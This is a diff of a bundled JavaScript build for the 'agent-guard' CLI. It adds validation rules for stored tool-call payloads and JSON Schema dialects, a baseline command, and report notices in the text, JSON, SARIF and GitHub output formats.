+function normaliseFlavour(schema, flavour) {
+  const problems = [];
+  if (flavour === "json-schema") return { schema, problems };
+  const rewrite = (node, path2) => {
+    if (!node || typeof node !== "object") return node;
+    if (Array.isArray(node)) return node.map((n, i2) => rewrite(n, [...path2, i2]));
+    const out2 = {};
+    for (const [k, v] of Object.entries(node)) {
+      if (k === "type" && typeof v === "string") {
+        if (flavour === "gemini") {
+          const lower = v.toLowerCase();
+          if (lower === "type_unspecified") continue;
+          out2.type = JSON_TYPES.includes(lower) ? lower : v;
+          continue;
+        }
+        if (flavour === "bfcl" && v in BFCL_TYPES) {
+          const mapped = BFCL_TYPES[v];
+          if (mapped) out2.type = mapped;
+          continue;
+        }
+        out2.type = v;
+      } else if (TYPE_KEY_HOLDERS.includes(k) && v && typeof v === "object" && !Array.isArray(v)) {
+        const holder = {};
+        for (const [pk, pv] of Object.entries(v)) holder[pk] = rewrite(pv, [...path2, k, pk]);
+        out2[k] = holder;
+      } else if (SCHEMA_ARRAYS.includes(k) || SCHEMA_SINGLES.includes(k)) {
+        out2[k] = rewrite(v, [...path2, k]);
+      } else {
+        out2[k] = v;
+      }
+    }
+    return out2;
+  };
+  return { schema: rewrite(schema, []), problems };
+}
+function makeAjv(dialect) {
+  const options = { strict: false, allErrors: true, logger: false, validateSchema: false, addUsedSchema: false, inlineRefs: true };
+  const ajv = dialect === "2020-12" ? new import__.Ajv2020(options) : new import_ajv2.Ajv(options);
+  addFormats(ajv);
+  return ajv;
+}
+function preview2(v) {
+  const s = JSON.stringify(v) ?? String(v);
+  return s.length > 32 ? `${s.slice(0, 30)}\u2026` : s;
+}
+function metaProblems(ajv, schema) {
+  if (ajv.validateSchema(schema)) return [];
+  const errors = ajv.errors ?? [];
+  const byPath = /* @__PURE__ */ new Map();
+  for (const e of errors) {
+    const list2 = byPath.get(e.instancePath) ?? [];
+    list2.push(e);
+    byPath.set(e.instancePath, list2);
+  }
+  const paths = [...byPath.keys()].filter((p) => ![...byPath.keys()].some((q) => q !== p && q.startsWith(`${p}/`)));
+  const problems = [];
+  for (const p of paths) {
+    const list2 = byPath.get(p);
+    const segs = pointerToPath(p, schema);
+    const found = valueAt2(schema, segs);
+    const last = segs[segs.length - 1];
+    if (last === "type") {
+      problems.push({ path: segs, expected: `"type" to be one of ${JSON_TYPES.join(", ")} (or an array of them)`, found: preview2(found) });
+      continue;
+    }
+    const e = list2.find((x) => x.keyword === "enum") ?? list2.find((x) => x.keyword !== "anyOf" && x.keyword !== "oneOf") ?? list2[0];
+    const name2 = typeof last === "string" ? `"${last}"` : "the value";
+    const params = e.params;
+    const expected = e.keyword === "type" ? `${name2} to be ${String(params.type).replace(/,/g, " or ")}` : e.keyword === "enum" ? `${name2} to be one of ${params.allowedValues.map((x) => JSON.stringify(x)).join(", ")}` : `${name2} that ${e.message ?? "is valid"}`;
+    problems.push({ path: segs, expected, found: preview2(found) });
+  }
+  return problems;
+}
+function valueAt2(root, path2) {
+  let cur = root;
+  for (const s of path2) {
+    if (cur === null || typeof cur !== "object") return void 0;
+    cur = cur[s];
+  }
+  return cur;
+}
+var SchemaCache = class {
+  constructor(maxEntries = 1e4) {
+    this.maxEntries = maxEntries;
+  }
+  maxEntries;
+  ajvs = /* @__PURE__ */ new Map();
+  /** canonical key -> compiled */
+  byCanonical = /* @__PURE__ */ new Map();
+  /** fast key (plain JSON.stringify, key order as written) -> compiled */
+  byText = /* @__PURE__ */ new Map();
+  compiles = 0;
+  ajv(d) {
+    let a = this.ajvs.get(d);
+    if (!a) {
+      a = makeAjv(d);
+      this.ajvs.set(d, a);
+    }
+    return a;
+  }
+  /** Compile (once per distinct schema) a tool's schema in its flavour and default dialect. */
+  get(schema, flavour, fallback) {
+    const textKey = `${flavour}|${fallback}|${JSON.stringify(schema)}`;
+    const hit = this.byText.get(textKey);
+    if (hit) return hit;
+    const canonKey = `${flavour}|${fallback}|${canonicalJson(schema)}`;
+    let compiled = this.byCanonical.get(canonKey);
+    if (!compiled) {
+      compiled = this.compile(schema, flavour, fallback);
+      if (this.byCanonical.size >= this.maxEntries) this.clear();
+      this.byCanonical.set(canonKey, compiled);
+    }
+    if (this.byText.size >= this.maxEntries * 2) this.byText.clear();
+    this.byText.set(textKey, compiled);
+    return compiled;
+  }
+  get size() {
+    return this.byCanonical.size;
+  }
+  clear() {
+    this.byCanonical.clear();
+    this.byText.clear();
+    this.ajvs.clear();
+  }
+  compile(schema, flavour, fallback) {
+    if (typeof schema === "boolean") schema = schema ? {} : { not: {} };
+    if (schema === null || typeof schema !== "object" || Array.isArray(schema)) {
+      return { ok: false, problems: [{ path: [], expected: "a JSON Schema object", found: preview2(schema) }] };
+    }
+    const normalised = normaliseFlavour(schema, flavour);
+    if (normalised.problems.length) return { ok: false, problems: normalised.problems };
+    const dialect = dialectOf(schema, fallback);
+    const ajv = this.ajv(dialect);
+    const { $schema: _s, $id: _i, ...body2 } = normalised.schema;
+    const problems = metaProblems(ajv, body2);
+    if (problems.length) return { ok: false, problems };
+    try {
+      this.compiles++;
+      return { ok: true, validate: ajv.compile(body2), schema: body2 };
+    } catch (err2) {
+      const msg = err2.message.split("\n")[0];
+      return { ok: false, problems: [{ path: [], expected: "a schema that compiles", found: msg }] };
+    }
+  }
+};
+
+// src/payloads/analyze.ts
+var PAYLOAD_WORDS = /(?:^|[/_.-])(?:tools?|tool[-_]?calls?|tool[-_]?use|functions?|function[-_]?calls?|mcp|traces?|fine[-_]?tun\w*|finetun\w*|train(?:ing)?|few[-_]?shot|conversations?|messages|chats?|datasets?|payloads?|samples?|evals?)(?=$|[/_.-])/i;
+function isPayloadPath(path2) {
+  return PAYLOAD_WORDS.test(path2);
+}
+function recordKey(value, fallbackText, fallback) {
+  if (value && typeof value === "object" && !Array.isArray(value)) {
+    for (const k of ["id", "custom_id", "uuid", "conversation_id"]) {
+      const v = value[k];
+      if (typeof v === "string" || typeof v === "number") return `${k}=${v}`;
+    }
+  }
+  return fallback ?? `sha=${createHash2("sha256").update(fallbackText).digest("hex").slice(0, 16)}`;
+}
+function looksConversationArray(v) {
+  return v.some((x) => x !== null && typeof x === "object" && !Array.isArray(x) && (typeof x.role === "string" || /^(message|function_call|function_call_output)$/.test(String(x.type))));
+}
+function nonEmptyLines(text) {
+  const out2 = [];
+  let start2 = 0;
+  let line = 1;
+  while (start2 <= text.length) {
+    let end = text.indexOf("\n", start2);
+    if (end < 0) end = text.length;
+    let t = text.slice(start2, end);
+    if (t.endsWith("\r")) t = t.slice(0, -1);
+    if (t.trim()) out2.push({ text: t, start: start2, line });
+    start2 = end + 1;
+    line++;
+  }
+  return out2;
+}
+function looksLikeJsonLines(text) {
+  const lines = nonEmptyLines(text.length > 2e6 ? text.slice(0, 2e6) : text);
+  if (lines.length < 2) return false;
+  try {
+    const v = JSON.parse(lines[0].text);
+    return v !== null && typeof v === "object";
+  } catch {
+    return false;
+  }
+}
+async function projectCache(project) {
+  return project.memo("tool-payload:schema-cache", async () => new SchemaCache());
+}
+async function mappingFor(path2, project) {
+  const matchers = await project.memo("tool-payload:mappings", async () => (project.config.payloads ?? []).map((m2) => ({ ...m2, match: (0, import_picomatch3.default)(m2.files, { dot: true }) })));
+  const m = matchers.find((x) => x.match(path2));
+  if (!m) return null;
+  const cache = await projectCache(project);
+  return project.memo(`tool-payload:mapping:${m.schema}`, async () => {
+    const f = await project.getFile(m.schema);
+    if (!f) return { schemaPath: m.schema, compiled: { ok: false, reason: "the file is missing or unreadable" } };
+    let schema;
+    try {
+      schema = JSON.parse(f.text);
+    } catch (err2) {
+      return { schemaPath: m.schema, compiled: { ok: false, reason: `it is not valid JSON (${err2.message})` } };
+    }
+    const compiled = cache.get(schema, "json-schema", "draft-07");
+    if (!compiled.ok) {
+      const p = compiled.problems[0];
+      return { schemaPath: m.schema, compiled: { ok: false, reason: `it is not a valid JSON Schema at ${pathToPointer(p.path) || "/"}: expected ${p.expected}, found ${p.found}` } };
+    }
+    return { schemaPath: m.schema, compiled };
+  });
+}
+async function analyzeFile(file, project) {
+  const text = file.text;
+  if (!text.trim()) return [];
+  const cache = await projectCache(project);
+  const mapping = await mappingFor(file.path, project);
+  const issues = [];
+  const units = [];
+  const mapped = [];
+  const syntax = [];
+  let recovered;
+  const jsonc = file.path.toLowerCase().endsWith(".jsonc");
+  let doc;
+  let parsed = false;
+  if (file.language === "json") {
+    if (jsonc) {
+      const r2 = syntaxCheck(text, true);
+      if (!r2.problem) [doc, parsed] = [r2.value, true];
+    } else {
+      try {
+        doc = JSON.parse(text);
+        parsed = true;
+      } catch {
+        parsed = false;
+      }
+    }
+  }
+  if (parsed) {
+    const locator = new Locator(text, jsonc);
+    mapped.push({ value: doc, prefix: [], label: "", locator, base: 0, key: "" });
+    if (Array.isArray(doc) && !looksConversationArray(doc) && doc.some((x) => x !== null && typeof x === "object")) {
+      doc.forEach((item, i2) => units.push({ value: item, prefix: [i2], label: "", locator, base: 0, key: recordKey(item, "", `[${i2}]`) }));
+    } else {
+      units.push({ value: doc, prefix: [], label: "", locator, base: 0, key: "" });
+    }
+  } else if (file.language === "jsonl" || looksLikeJsonLines(text)) {
+    for (const l of nonEmptyLines(text)) {
+      let value;
+      try {
+        value = JSON.parse(l.text);
+      } catch {
+        const r2 = syntaxCheck(l.text);
+        const p = r2.problem ?? { start: 0, end: l.text.length, code: "InvalidSymbol", expected: "valid JSON", found: JSON.stringify(l.text.slice(0, 20)) };
+        syntax.push({ start: l.start + p.start, end: l.start + p.end, label: `line ${l.line}`, code: p.code, expected: p.expected, found: p.found, key: recordKey(void 0, l.text) });
+        continue;
+      }
+      const unit = { value, prefix: [], label: `line ${l.line}`, locator: new Locator(l.text), base: l.start, key: recordKey(value, l.text) };
+      units.push(unit);
+      mapped.push(unit);
+    }
+  } else {
+    const r2 = syntaxCheck(text, false);
+    recovered = r2.value;
+    const p = r2.problem ?? { start: 0, end: Math.min(1, text.length), code: "InvalidSymbol", expected: "valid JSON", found: "text JSON.parse rejects" };
+    syntax.push({ ...p, label: "", key: "" });
+  }
+  const extracted = units.map((u) => extract(u.value, u.prefix));
+  const fileTools = /* @__PURE__ */ new Map();
+  for (const x of extracted) for (const d of x.decls) if (!fileTools.has(d.name)) fileTools.set(d.name, d);
+  const payload = mapping !== null || isPayloadPath(file.path) || extracted.some(isPayloadContent) || recovered !== void 0 && isPayloadContent(extract(recovered, []));
+  if (payload) {
+    for (const s of syntax) {
+      issues.push({
+        rule: "invalid-json",
+        messageId: "syntax",
+        data: { where: s.label || "document", code: s.code, expected: s.expected, found: s.found },
+        path: [],
+        hint: `${s.key}:syntax`,
+        start: s.start,
+        end: s.end,
+        fingerprintHint: `${s.key}:syntax`
+      });
+    }
+  }
+  units.forEach((u, i2) => {
+    if (!isPayloadContent(extracted[i2])) return;
+    for (const issue of checkRecord(extracted[i2], { label: u.label, cache, fileTools })) {
+      const [s, e] = u.locator.locate(issue.path, issue.key);
+      issues.push({ ...issue, start: u.base + s, end: u.base + e, fingerprintHint: `${u.key}${issue.hint}:${issue.messageId}` });
+    }
+  });
+  if (mapping) {
+    if (!mapping.compiled.ok) {
+      const reason = "reason" in mapping.compiled ? mapping.compiled.reason : "it does not compile";
+      issues.push({ rule: "schema-mismatch", messageId: "schemaUnavailable", data: { schema: mapping.schemaPath, reason }, path: [], hint: "schema", start: 0, end: 0, fingerprintHint: `schema:${mapping.schemaPath}` });
+    } else {
+      const validate2 = mapping.compiled.validate;
+      for (const u of mapped) {
+        if (validate2(u.value)) continue;
+        for (const v of describeErrors(validate2.errors, u.value)) {
+          const [s, e] = u.locator.locate(v.path, v.key);
+          issues.push({
+            rule: "schema-mismatch",
+            messageId: "violation",
+            data: { where: where(u.label, v.path), target: formatPath(v.path) || "the record", schema: mapping.schemaPath, expected: v.expected, found: v.found },
+            path: v.path,
+            hint: "",
+            start: u.base + s,
+            end: u.base + e,
+            fingerprintHint: `${u.key}${pathToPointer(v.path)}:${v.expected}`
+          });
+        }
+      }
+    }
+  }
+  return issues;
+}
+
+// src/payloads/messages.ts
+var PAYLOAD_MESSAGES = {
+  "invalid-json": {
+    syntax: "{{where}}: invalid JSON ({{code}}): expected {{expected}}, found {{found}}"
+  },
+  "invalid-arguments": {
+    unparsable: '{{where}}: the arguments of "{{tool}}" are not valid JSON ({{error}}): expected a JSON object encoded as a string, found {{found}}',
+    doubleEncoded: '{{where}}: the arguments of "{{tool}}" are double-encoded: expected a JSON object encoded once, found {{found}}',
+    notObject: '{{where}}: the arguments of "{{tool}}": expected a JSON object, found {{found}}',
+    violation: '{{where}}: {{arg}} of "{{tool}}": expected {{expected}}, found {{found}}',
+    undeclared: '{{where}}: {{arg}} is not declared by "{{tool}}" (expected one of its properties: {{declared}})',
+    callUnparsable: "{{where}}: the tool call is not valid JSON ({{error}}): expected a JSON object naming the tool and its arguments"
+  },
+  "unknown-tool": {
+    unknown: '{{where}}: the call names "{{name}}": expected a tool declared in {{scope}} ({{declared}})'
+  },
+  "invalid-tool-schema": {
+    badSchema: '{{where}}: the {{what}} of tool "{{tool}}" is not a valid JSON Schema: expected {{expected}}, found {{found}}',
+    badName: "{{where}}: tool name {{found}} is not valid for {{provider}}: expected a name matching {{expected}}"
+  },
+  "unpaired-call": {
+    noResult: '{{where}}: call "{{name}}" (id {{id}}) has no result although the conversation continues at {{next}}: expected a tool result with id {{id}}',
+    noCall: "{{where}}: tool result for id {{id}} answers no call: expected a call with id {{id}} in this conversation",
+    duplicateId: "{{where}}: call id {{id}} is used twice (first at {{first}}): expected unique call ids"
+  },
+  "schema-mismatch": {
+    violation: "{{where}}: {{target}} does not satisfy {{schema}}: expected {{expected}}, found {{found}}",
+    schemaUnavailable: "{{schema}} (mapped to this file by `payloads:` in the config) cannot be used: {{reason}}"
+  }
+};
+
+// src/rules/tool-payload/shared.ts
+function payloadRule(name2, meta9) {
+  return {
+    meta: { id: `tool-payload/${name2}`, family: "tool-payload", messages: PAYLOAD_MESSAGES[name2], ...meta9 },
+    appliesTo: (file) => file.language === "json" || file.language === "jsonl",
+    async check(ctx) {
+      const issues = await ctx.memo("tool-payload:analysis", () => analyzeFile(ctx.file, ctx.project));
+      for (const issue of issues) {
+        if (issue.rule !== name2) continue;
+        ctx.report({
+          messageId: issue.messageId,
+          data: issue.data,
+          range: ctx.file.rangeOf(issue.start, issue.end),
+          fingerprintHint: issue.fingerprintHint,
+          ...issue.severity ? { severity: issue.severity } : {}
+        });
+      }
+    }
+  };
+}
+
+// src/rules/tool-payload/invalid-arguments.ts
+var invalidArguments = payloadRule("invalid-arguments", {
+  severity: "error",
+  description: "A stored tool call's arguments do not parse, are double-encoded, or violate the declaring tool's JSON Schema (undeclared keys are a warning).",
+  fix: "Make the call's arguments a JSON object (encoded once, where the format wants a string) that satisfies the tool's parameters schema."
+});
+
+// src/rules/tool-payload/invalid-json.ts
+var invalidJson = payloadRule("invalid-json", {
+  severity: "error",
+  description: "A tool-payload file (fixture, dataset, trace, MCP tool list, or a file mapped in `payloads:`) is not valid JSON; in JSONL each line is checked on its own.",
+  fix: "Fix the JSON syntax at the reported position (JSON allows no comments, trailing commas or single quotes)."
+});
+
+// src/rules/tool-payload/invalid-tool-schema.ts
+var invalidToolSchema = payloadRule("invalid-tool-schema", {
+  severity: "error",
+  description: "A tool definition's schema is not a valid JSON Schema in its dialect (draft-07, 2020-12, Gemini's OpenAPI subset, BFCL), or its name breaks the provider's name rule.",
+  fix: "Use JSON Schema types (string, number, integer, boolean, object, array, null) and a name the provider accepts."
+});
+
+// src/rules/tool-payload/schema-mismatch.ts
+var schemaMismatch = payloadRule("schema-mismatch", {
+  severity: "error",
+  description: "A file mapped by `payloads:` in `.agent-guard.yml` does not satisfy its project JSON Schema (in JSONL, each line must).",
+  fix: "Change the payload to satisfy the schema named in the `payloads:` mapping, or fix the schema."
+});
+
+// src/rules/tool-payload/unknown-tool.ts
+var unknownTool = payloadRule("unknown-tool", {
+  severity: "error",
+  description: "A stored tool call names a tool that the record (or the file) does not declare.",
+  fix: "Call one of the declared tools, or declare the tool in the record that calls it."
+});
+
+// src/rules/tool-payload/unpaired-call.ts
+var unpairedCall = payloadRule("unpaired-call", {
+  severity: "warning",
+  description: "In a stored conversation, a tool call has no result although the conversation continues, a tool result answers no call, or two calls share an id.",
+  fix: "Add the missing tool result (or call), or give each call its own id and answer it with a result carrying that id."
+});
 
 // src/rules/tool-payload/index.ts
-var toolPayloadRules = [];
+var toolPayloadRules = [invalidJson, invalidArguments, unknownTool, invalidToolSchema, unpairedCall, schemaMismatch];
 
 // src/rules/index.ts
 var ALL_RULES = [...secretRules, ...toolInputRules, ...rateLimitRules, ...toolPayloadRules];
+function rulesOfFamilies(families) {
+  return ALL_RULES.filter((r2) => families.includes(r2.meta.family));
+}
+
+// src/reporters/types.ts
+var FORMATS = ["text", "json", "sarif", "github"];
+function countBySeverity(result) {
+  const counts = { error: 0, warning: 0, note: 0 };
+  for (const f of result.findings) counts[f.severity]++;
+  return counts;
+}
+function plural(n, word) {
+  return `${n} ${word}${n === 1 ? "" : "s"}`;
+}
+
+// src/cli/commands/baseline.ts
+var baselineCommand = {
+  name: "baseline",
+  summary: `record today's findings in ${BASELINE_FILE} so scans report only new ones`,
+  usage: `agent-guard baseline [PATH...] [options]
+
+Scans PATH (default: the whole repository) like "agent-guard scan" and writes the fingerprint of every
+finding to ${BASELINE_FILE} at the repository root. Then "agent-guard scan --baseline ${BASELINE_FILE}"
+reports only findings that are not in it, and notes entries that no longer match (run this command again
+to drop them). The file is sorted, has no timestamps or line numbers, and is written atomically: commit it.
+
+  -o, --output FILE     write the baseline to FILE instead
+  -c, --config FILE     use FILE instead of .agent-guard.yml at the root`,
+  options: { output: { type: "string", short: "o" }, config: { type: "string", short: "c" } },
+  allowPositionals: true,
+  async run(args2, io) {
+    const configFile = args2.values.config ? resolve3(io.cwd, args2.values.config) : void 0;
+    const located = loadRootAndConfig(args2.positionals.length ? args2.positionals.map((p) => resolve3(io.cwd, p)) : [io.cwd], ALL_RULES, configFile);
+    const { root, config } = located;
+    const paths = args2.positionals.length ? args2.positionals.map((p) => resolve3(io.cwd, p)) : [root.root];
+    const target = args2.values.output ? resolve3(io.cwd, args2.values.output) : join5(root.root, BASELINE_FILE);
+    let previous = null;
+    if (existsSync3(target)) {
+      try {
+        previous = loadBaseline(target);
+      } catch {
+        previous = null;
+      }
+    }
+    const result = await scan({ paths, rules: ALL_RULES, config });
+    const written = writeBaseline(target, result.findings);
+    const rel = relative2(io.cwd, target);
+    const shown = rel && !isAbsolute2(rel) && rel.length < target.length ? rel : target;
+    let change = "";
+    if (previous) {
+      const before = new Set(previous.entries.map((e) => e.fingerprint));
+      const after = new Set(written.entries.map((e) => e.fingerprint));
+      const added = written.entries.filter((e) => !before.has(e.fingerprint)).length;
+      const dropped = previous.entries.filter((e) => !after.has(e.fingerprint)).length;
+      change = ` (${added} new, ${dropped} dropped)`;
+    }
+    io.out(`agent-guard: wrote ${plural(written.entries.length, "finding")} to ${shown}${change}
+`);
+    if (result.skipped.length) io.out(`agent-guard: ${plural(result.skipped.length, "file")} skipped (run "agent-guard scan" to see why)
+`);
+    return 0;
+  }
+};
+
+// src/cli/commands/demo.ts
+import { randomInt } from "node:crypto";
+import { cpSync, mkdtempSync, readdirSync as readdirSync2, readFileSync as readFileSync3, rmSync as rmSync3, statSync as statSync2, writeFileSync as writeFileSync3 } from "node:fs";
+import { tmpdir } from "node:os";
+import { join as join8 } from "node:path";
+
+// src/core/assets.ts
+import { existsSync as existsSync4 } from "node:fs";
+import { dirname as dirname3, join as join6, resolve as resolve4 } from "node:path";
+import { fileURLToPath as fileURLToPath2 } from "node:url";
+function assetPath(relative5) {
+  const here = dirname3(fileURLToPath2(import.meta.url));
+  const bundled = join6(here, relative5);
+  if (existsSync4(bundled)) return bundled;
+  return resolve4(here, "..", "..", relative5);
+}
 
 // src/cli/scan-output.ts
-import { resolve as resolve4 } from "node:path";
+import { resolve as resolve6 } from "node:path";
 
 // src/reporters/github.ts
 function escapeData(s) {
@@ -21027,22 +36119,15 @@ var githubReporter = (result) => {
   for (const s of result.skipped) {
     lines.push(`::notice file=${escapeProperty(s.path)},title=${escapeProperty("agent-guard skipped a file")}::${escapeData(`skipped: ${s.reason}`)}`);
   }
+  for (const n of result.notices ?? []) {
+    const where2 = [`file=${escapeProperty(n.path)}`, ...n.line ? [`line=${n.line}`] : [], `title=${escapeProperty("agent-guard")}`];
+    lines.push(`::notice ${where2.join(",")}::${escapeData(n.message)}`);
+  }
   for (const s of result.ruleErrors) {
     lines.push(`::warning file=${escapeProperty(s.path)},title=${escapeProperty("agent-guard rule error")}::${escapeData(s.reason)}`);
   }
   return lines.length ? lines.join("\n") + "\n" : "";
 };
-
-// src/reporters/types.ts
-var FORMATS = ["text", "json", "sarif", "github"];
-function countBySeverity(result) {
-  const counts = { error: 0, warning: 0, note: 0 };
-  for (const f of result.findings) counts[f.severity]++;
-  return counts;
-}
-function plural(n, word) {
-  return `${n} ${word}${n === 1 ? "" : "s"}`;
-}
 
 // src/reporters/json.ts
 var jsonReporter = (result) => {
@@ -21063,43 +36148,44 @@ var jsonReporter = (result) => {
       ...f.properties ? { properties: f.properties } : {}
     })),
     skipped: result.skipped,
-    ruleErrors: result.ruleErrors
+    ruleErrors: result.ruleErrors,
+    ...result.notices?.length ? { notices: result.notices } : {}
   };
   return JSON.stringify(doc, null, 2) + "\n";
 };
 
 // src/reporters/sarif.ts
 var LEVEL = { error: "error", warning: "warning", note: "note" };
-function toUri(path) {
-  return path.split("/").map(encodeURIComponent).join("/");
+function toUri(path2) {
+  return path2.split("/").map(encodeURIComponent).join("/");
 }
-function physicalLocation(loc) {
-  const { startLine, startColumn, endLine, endColumn } = loc.range;
+function physicalLocation(loc2) {
+  const { startLine, startColumn, endLine, endColumn } = loc2.range;
   return {
-    artifactLocation: { uri: toUri(loc.path), uriBaseId: "%SRCROOT%" },
+    artifactLocation: { uri: toUri(loc2.path), uriBaseId: "%SRCROOT%" },
     region: { startLine, startColumn, endLine, endColumn }
   };
 }
-function ruleDescriptor(meta) {
+function ruleDescriptor(meta9) {
   return {
-    id: meta.id,
-    name: meta.id.split("/")[1].replace(/(^|-)([a-z0-9])/g, (_, __, c) => c.toUpperCase()),
-    shortDescription: { text: meta.description },
-    fullDescription: { text: `${meta.description} Fix: ${meta.fix}` },
-    helpUri: docsUrl(meta.id),
-    help: { text: `${meta.description}
-Fix: ${meta.fix}
-Docs: ${docsUrl(meta.id)}` },
-    defaultConfiguration: { level: LEVEL[meta.severity] },
-    properties: { tags: ["security", meta.family] }
+    id: meta9.id,
+    name: meta9.id.split("/")[1].replace(/(^|-)([a-z0-9])/g, (_, __, c) => c.toUpperCase()),
+    shortDescription: { text: meta9.description },
+    fullDescription: { text: `${meta9.description} Fix: ${meta9.fix}` },
+    helpUri: docsUrl(meta9.id),
+    help: { text: `${meta9.description}
+Fix: ${meta9.fix}
+Docs: ${docsUrl(meta9.id)}` },
+    defaultConfiguration: { level: LEVEL[meta9.severity] },
+    properties: { tags: ["security", meta9.family] }
   };
 }
-function related(list) {
-  return list.map((r, i2) => ({ id: i2 + 1, physicalLocation: physicalLocation(r), message: { text: r.message } }));
+function related(list2) {
+  return list2.map((r2, i2) => ({ id: i2 + 1, physicalLocation: physicalLocation(r2), message: { text: r2.message } }));
 }
 var sarifReporter = (result) => {
-  const rules = [...result.rules].sort((a, b) => a.id < b.id ? -1 : 1);
-  const ruleIndex = new Map(rules.map((r, i2) => [r.id, i2]));
+  const rules2 = [...result.rules].sort((a, b) => a.id < b.id ? -1 : 1);
+  const ruleIndex = new Map(rules2.map((r2, i2) => [r2.id, i2]));
   const notifications = [
     ...result.skipped.map((s) => ({ ...s, text: `skipped: ${s.reason}`, level: "note" })),
     ...result.ruleErrors.map((s) => ({ ...s, text: s.reason, level: "warning" }))
@@ -21108,6 +36194,13 @@ var sarifReporter = (result) => {
     message: { text: `${n.path}: ${n.text}` },
     locations: [{ physicalLocation: { artifactLocation: { uri: toUri(n.path), uriBaseId: "%SRCROOT%" } } }]
   }));
+  for (const n of result.notices ?? []) {
+    notifications.push({
+      level: "note",
+      message: { text: `${n.path}${n.line ? `:${n.line}` : ""}: ${n.message}` },
+      locations: [{ physicalLocation: { artifactLocation: { uri: toUri(n.path), uriBaseId: "%SRCROOT%" }, ...n.line ? { region: { startLine: n.line } } : {} } }]
+    });
+  }
   const results = result.findings.map((f) => ({
     ruleId: f.ruleId,
     ...ruleIndex.has(f.ruleId) ? { ruleIndex: ruleIndex.get(f.ruleId) } : {},
@@ -21140,18 +36233,51 @@ var sarifReporter = (result) => {
             version: VERSION,
             semanticVersion: VERSION,
             informationUri: INFORMATION_URI,
-            rules: rules.map(ruleDescriptor)
+            rules: rules2.map(ruleDescriptor)
           }
         },
         columnKind: "utf16CodeUnits",
         originalUriBaseIds: { "%SRCROOT%": { description: { text: "The root of the scanned repository." } } },
         invocations: [{ executionSuccessful: true, toolExecutionNotifications: notifications }],
+        ...historyRun(result),
         results
       }
     ]
   };
   return JSON.stringify(doc, null, 2) + "\n";
 };
+function historyRun(result) {
+  const history = result.history;
+  if (!history) return {};
+  const { repositoryUri, revisionId, branch } = history.provenance;
+  return {
+    ...repositoryUri ? {
+      versionControlProvenance: [
+        {
+          repositoryUri,
+          ...revisionId ? { revisionId } : {},
+          ...branch ? { branch } : {},
+          mappedTo: { uriBaseId: "%SRCROOT%" }
+        }
+      ]
+    } : {},
+    properties: {
+      history: {
+        range: history.range,
+        ...history.since ? { since: history.since } : {},
+        ...history.until ? { until: history.until } : {},
+        families: history.families,
+        commits: history.commits,
+        blobVersions: history.blobVersions,
+        uniqueBlobs: history.uniqueBlobs,
+        scannedBlobs: history.scannedBlobs,
+        skippedBlobs: history.skippedBlobs,
+        shallow: history.shallow,
+        ...history.notes.length ? { notes: history.notes } : {}
+      }
+    }
+  };
+}
 
 // src/reporters/text.ts
 var ANSI = { red: 31, yellow: 33, blue: 34, gray: 90, bold: 1, underline: 4 };
@@ -21166,13 +36292,13 @@ var textReporter = (result, options = {}) => {
   const paint = painter(Boolean(options.color));
   const byFile = /* @__PURE__ */ new Map();
   for (const f of result.findings) {
-    const list = byFile.get(f.path) ?? [];
-    list.push(f);
-    byFile.set(f.path, list);
+    const list2 = byFile.get(f.path) ?? [];
+    list2.push(f);
+    byFile.set(f.path, list2);
   }
   const lines = [];
-  for (const [path, findings] of byFile) {
-    lines.push(paint("underline", printable(path)));
+  for (const [path2, findings] of byFile) {
+    lines.push(paint("underline", printable(path2)));
     const positions = findings.map((f) => `${f.range.startLine}:${f.range.startColumn}`);
     const posWidth = Math.max(...positions.map((p) => p.length));
     const sevWidth = Math.max(...findings.map((f) => f.severity.length));
@@ -21199,6 +36325,11 @@ var textReporter = (result, options = {}) => {
     lines.push(paint("bold", `note: ${plural(result.skipped.length, "file")} skipped${result.ruleErrors.length ? `, ${plural(result.ruleErrors.length, "rule error")}` : ""}:`));
     for (const n of notices) lines.push(`  ${printable(n.path)}  ${paint("gray", printable(n.kind === "skipped" ? n.reason : `${n.kind}: ${n.reason}`))}`);
   }
+  if (result.notices?.length) {
+    lines.push("");
+    lines.push(paint("bold", `note: ${plural(result.notices.length, "notice")}:`));
+    for (const n of result.notices) lines.push(`  ${printable(n.line ? `${n.path}:${n.line}` : n.path)}  ${paint("gray", printable(n.message))}`);
+  }
   return lines.join("\n") + "\n";
 };
 
@@ -21211,9 +36342,9 @@ var REPORTERS = {
 };
 
 // src/cli/io.ts
-import { randomBytes } from "node:crypto";
-import { renameSync, rmSync, writeFileSync } from "node:fs";
-import { basename as basename2, dirname as dirname3, join as join5, resolve as resolve3 } from "node:path";
+import { randomBytes as randomBytes2 } from "node:crypto";
+import { renameSync as renameSync2, rmSync as rmSync2, writeFileSync as writeFileSync2 } from "node:fs";
+import { basename as basename3, dirname as dirname4, join as join7, resolve as resolve5 } from "node:path";
 function processIO() {
   return {
     cwd: process.cwd(),
@@ -21223,15 +36354,15 @@ function processIO() {
     err: (t) => process.stderr.write(globalRedactor.redact(t))
   };
 }
-function writeFileAtomic(path, text) {
-  const target = resolve3(path);
-  const tmp = join5(dirname3(target), `.${basename2(target)}.${process.pid}.${randomBytes(4).toString("hex")}.tmp`);
+function writeFileAtomic(path2, text) {
+  const target = resolve5(path2);
+  const tmp = join7(dirname4(target), `.${basename3(target)}.${process.pid}.${randomBytes2(4).toString("hex")}.tmp`);
   try {
-    writeFileSync(tmp, globalRedactor.redact(text));
-    renameSync(tmp, target);
+    writeFileSync2(tmp, globalRedactor.redact(text));
+    renameSync2(tmp, target);
   } catch (err2) {
-    rmSync(tmp, { force: true });
-    throw new UsageError(`cannot write ${path}: ${err2.code ?? err2.message}`);
+    rmSync2(tmp, { force: true });
+    throw new UsageError(`cannot write ${path2}: ${err2.code ?? err2.message}`);
   }
 }
 function useColor(io) {
@@ -21248,9 +36379,9 @@ var REPORT_USAGE = `  -f, --format FORMAT   text (default), json, sarif, github
   -o, --output FILE     write the report to FILE (atomically) instead of stdout
       --fail-on LEVEL   error (default), warning, note or never: exit 1 when a finding is at or above it`;
 function parseFormat(value) {
-  const format = value ?? "text";
-  if (!FORMATS.includes(format)) throw new UsageError(`unknown --format "${format}" (expected one of: ${FORMATS.join(", ")})`);
-  return format;
+  const format2 = value ?? "text";
+  if (!FORMATS.includes(format2)) throw new UsageError(`unknown --format "${format2}" (expected one of: ${FORMATS.join(", ")})`);
+  return format2;
 }
 function parseFailOn(value, fallback) {
   if (value === void 0) return fallback;
@@ -21264,13 +36395,13 @@ function exitCodeFor(result, failOn) {
   return result.findings.some((f) => SEVERITY_RANK[f.severity] >= threshold) ? 1 : 0;
 }
